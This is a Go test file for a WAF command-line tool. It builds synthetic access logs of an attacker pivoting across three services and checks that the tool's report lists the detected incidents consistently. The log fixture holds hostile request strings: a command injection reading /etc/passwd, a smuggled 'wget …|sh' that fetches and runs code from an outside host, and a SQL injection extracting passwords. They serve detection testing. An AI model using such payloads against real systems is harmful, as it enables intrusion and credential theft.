package main

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/fluent-bit-waf/fluent-bit-waf/cmd/wafctl/internal/cli"
)

// interleaved are the logs of three services that one attacker moves through, while others guess passwords on all of them. Each file has
// records of every minute of the hour.
func interleaved(t *testing.T) (files []string) {
	services := []string{"10.2.0.7:80", "10.2.0.8:80", "10.2.0.9:80"}
	logs := make([]*accessLog, len(services))
	for i := range logs {
		logs[i] = newAccessLog()
	}
	at := logs[0].at
	ask := func(service int, from, method, uri string, status int, later time.Duration) {
		at = at.Add(later)
		logs[service].at = at
		logs[service].ask(from, services[service], method, uri, status, 0)
	}
	for n := range 60 {
		for service := range services {
			ask(service, "198.51.100.20", "POST", "/login", 401, time.Second)
			ask(service, "10.2.0.1", "GET", fmt.Sprintf("/api/items/%d", n), 200, time.Second)
		}
		if n%10 == 0 {
			ask(0, "203.0.113.9", "GET", fmt.Sprintf("/api/orders/%d?q=;cat%%20/etc/passwd", n), 200, 20*time.Second)
			ask(1, "10.2.0.7", "POST", "/internal?cmd=;wget%20http://203.0.113.9/x|sh", 200, time.Second)
			ask(2, "10.2.0.8", "GET", "/report?id=1'%20UNION%20SELECT%20password%20FROM%20users--%20", 200, time.Second)
		}
	}
	ask(1, "198.51.100.20", "POST", "/login", 200, time.Second)
	dir := t.TempDir()
	for i, name := range []string{"shop", "orders", "billing"} {
		files = append(files, filepath.Join(dir, name+".ndjson"))
		require.NoError(t, os.WriteFile(files[i], []byte(logs[i].String()), 0o600))
	}
	return files
}

var explainedID = regexp.MustCompile(`wafctl incidents --explain ([0-9a-f]+) FILE…`)

func TestReportHasTheIncidentsOfTheCommandIncidents(t *testing.T) {
	files := interleaved(t)
	listed := wafctl(nil, nil, append([]string{"incidents", "--output", "json"}, files...)...)
	require.Equal(t, cli.ExitAlert, listed.code, listed.err)
	var want []string
	for line := range strings.Lines(listed.out) {
		var found struct {
			ID string `json:"id"`
		}
		require.NoError(t, json.Unmarshal([]byte(line), &found))
		want = append(want, found.ID)
	}
	require.Contains(t, listed.out, `"pivot"`)
	require.Contains(t, listed.out, `"brute-force"`)

	var first string
	for _, processors := range []int{1, 4} {
		before := runtime.GOMAXPROCS(processors)
		got := wafctl(nil, nil, append([]string{"report", "-o", "-"}, files...)...)
		runtime.GOMAXPROCS(before)
		require.Equal(t, cli.ExitClean, got.code, got.err)
		var ids []string
		for _, match := range explainedID.FindAllStringSubmatch(got.out, -1) {
			ids = append(ids, match[1])
		}
		require.Equal(t, want, ids, "with %d processors", processors)
		page, _, _ := strings.Cut(got.out, "<footer>") // which has the time
		if first == "" {
			first = page
		}
		require.Equal(t, first, page)
	}
}
